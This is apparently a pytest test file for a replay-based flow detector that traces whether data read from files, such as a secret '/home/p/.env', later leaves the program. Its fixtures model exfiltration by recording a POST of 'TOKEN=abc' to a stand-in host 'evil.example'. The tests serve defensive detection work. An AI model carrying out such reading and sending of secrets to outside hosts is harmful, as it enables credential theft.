"""What counts as read, as sent, and as a flow from the one to the other."""

from collections.abc import Mapping
from dataclasses import replace

import pytest

from blufio_tui.core.replay.behaviour import behaviour, lines_of
from blufio_tui.core.replay.compare import Replayed, compare
from blufio_tui.core.replay.flow import (
    Destination,
    Flows,
    Source,
    exchanged,
    flows_of,
    found_flows,
    reaches_last,
    sendings,
    sources_of,
)
from blufio_tui.core.replay.playback import Playback
from blufio_tui.core.replay.record import Answer, CallRecord, Exchanged, Reply, Request
from blufio_tui.core.text.json_types import JsonObject
from tests.fakes.call_records import fetched, read, record_of, touched

SECRET, HOST = "/home/p/.env", Destination("net", "evil.example")


def leak(body: bytes = b"TOKEN=abc", url: str = "https://evil.example/") -> Exchanged:
    return fetched(url, body, "POST")


def opened(number: int, path: str) -> Exchanged:
    answer = Answer(Reply.RESULT, {"value": 0, "headers": [], "url": "", "handle": number})
    return Exchanged(Request("file", {"op": "open", "path": path}), answer, (touched("fs.read", path),))


def on_handle(number: int, operation: str, data: bytes = b"", sent: bytes = b"") -> Exchanged:
    request = Request("handle", {"op": operation, "handle": number, "args": [0, 99]}, sent)
    return Exchanged(request, Answer(Reply.RESULT, {"value": 0}, data))


def ran(record: CallRecord, *requests: Request, content: str = "out") -> Replayed:
    playback = Playback(record, lenient=True)
    for request in requests:
        playback.answer(request)
    return compare(record, replace(record.ending, content=content), playback)


def test_parts_of_one_file_are_one_source() -> None:
    record = record_of([opened(3, "/a"), on_handle(3, "read", b"one"), on_handle(3, "read", b"two"), read("/b")])
    assert sources_of(record) == (Source("fs.read", "/a", 1, (1, 2)), Source("fs.read", "/b", 1, (3,)))


def test_what_brought_nothing_is_no_source() -> None:
    record = record_of([read("/a", b""), read("/b", decision="deny"), on_handle(3, "stat", b"attributes")])
    assert sources_of(record) == ()


def test_writes_and_requests_are_ways_out() -> None:
    write = Exchanged(Request("write", {"path": "/out"}, b"x"), Answer(Reply.RESULT, {"value": 0}))
    moved = Exchanged(
        Request("file", {"op": "rename", "path": "/a", "other": "/b"}), Answer(Reply.RESULT, {"value": 0})
    )
    record = record_of([read("/a"), write, opened(4, "/log"), on_handle(4, "write", sent=b"y"), moved, leak()])
    found = sendings(record, [exchange.request for exchange in record.exchanges])
    assert [str(one.resource) for one in found] == ["/out", "/log", "/a", "evil.example"]


@pytest.mark.parametrize(
    ("now", "flows"),
    [
        ([leak(b"TOKEN=bcd")], ((HOST, "content"),)),
        ([leak()], ()),
        ([], ((HOST, "whether"),)),
        ([leak(), leak()], ((HOST, "whether"),)),
        ([leak(url="https://evil.example/?q=b")], ((HOST, "content"),)),
        ([leak(url="https://other.example/")], ((HOST, "whether"),)),
    ],
)
def test_what_goes_out_otherwise_is_a_flow(now: list[Exchanged], flows: tuple[object, ...]) -> None:
    record = record_of([read(SECRET), leak()])
    replayed = ran(record, record.exchanges[0].request, *(exchange.request for exchange in now))
    assert found_flows(record, sources_of(record)[0], replayed, "content").flows == flows


def test_what_had_gone_out_before_it_was_read_is_no_flow() -> None:
    record = record_of([leak(), read(SECRET)])
    replayed = ran(record, leak(b"other").request, record.exchanges[1].request)
    for source in sources_of(record):
        assert found_flows(record, source, replayed, "content").flows == ()


def test_the_first_way_in_which_it_was_seen_stays_and_output_is_kept() -> None:
    record = record_of([read(SECRET), leak()])
    source = sources_of(record)[0]
    flows = Flows("c1")
    for how, body in (("content", b"TOKEN=bcd"), ("size", b"TOKEN=abcabc")):
        replayed = ran(record, record.exchanges[0].request, leak(body).request, content=how)
        flows = flows.with_found(source, found_flows(record, source, replayed, how))
    whole = flows_of(record, flows).as_json()
    source_json = {"kind": "fs.read", "resource": SECRET, "seq": 1}
    to: JsonObject = {"kind": "net", "resource": "evil.example"}
    assert whole["flows"] == [{"from": source_json, "to": to, "how": "content"}]
    assert whole["output"] == [source_json]
    assert whole["untold"] == []


def test_answers_are_exchanged_with_their_lengths_and_no_read_gives_more_than_was_asked() -> None:
    record = record_of([read(SECRET, b"abc"), opened(3, "/a"), on_handle(3, "read", b"xyz")])
    first, second = sources_of(record)
    changed = dict(exchanged(record, first))["size"].exchanges[0].answer
    assert (changed.blob, changed.fields["value"]) == (b"abcabc", 6)
    assert dict(exchanged(record, second))["size"].exchanges[2].answer.blob == b"xyz"
    assert {other.exchanges[0].answer.blob for how, other in exchanged(record, first) if how == "content"} == {
        b"bcd",
        b"efg",
    }


def test_what_has_no_other_shape_is_told() -> None:
    record = record_of([read(SECRET, b"---"), leak()])
    assert flows_of(record, Flows("c1")).untold == sources_of(record)[:1]


@pytest.mark.parametrize(
    ("now", "how"),
    [
        ([leak(b"other")], "content"),
        ([leak()], ""),
        ([leak(), read("/b")], ""),
        ([], "whether"),
        ([read("/b")], "whether"),
    ],
)
def test_the_request_that_waits_is_compared_alone(now: list[Exchanged], how: str) -> None:
    record = record_of([read(SECRET), leak()])
    replayed = ran(record, record.exchanges[0].request, *(exchange.request for exchange in now))
    assert reaches_last(record, replayed, "content") == how


def test_behaviour_counts_calls_by_what_is_new_and_gone() -> None:
    record = record_of([read("/home/p/work/a"), read("/home/p/work/b")])
    replays = [
        ran(record, read("/home/p/work/a").request, leak().request),
        ran(record, *(exchange.request for exchange in record.exchanges), content="other"),
        ran(record, *(exchange.request for exchange in record.exchanges)),
    ]
    found = behaviour(replays)
    assert [(one.kind, one.resource, one.calls) for one in found.new] == [("net", "POST https://evil.example/", 1)]
    assert [(one.kind, one.resource) for one in found.gone] == [("fs.read", "/home/p/work/b")]
    assert (found.calls, found.other_output, found.other, found.differs) == (3, 1, ("c1",), True)
    assert "newly asks for net POST https://evil.example/ in 1 call" in lines_of(found)
    assert lines_of(behaviour(replays[1:]))[0].endswith("the same effects; 1 call with a different output")


def test_a_file_read_in_many_parts_is_exchanged_in_one_go(monkeypatch: pytest.MonkeyPatch) -> None:
    parts = [on_handle(3, "read", b"x") for _ in range(500)]
    record = record_of([opened(3, "/a"), *parts, leak()])
    made = list[int]()

    def counted(self: CallRecord, answers: Mapping[int, Answer]) -> CallRecord:
        made.append(len(answers))
        return self

    monkeypatch.setattr(CallRecord, "answered_with", counted)
    source, _ = sources_of(record)
    assert len(list(exchanged(record, source))) == len(made)
    assert set(made) == {500}
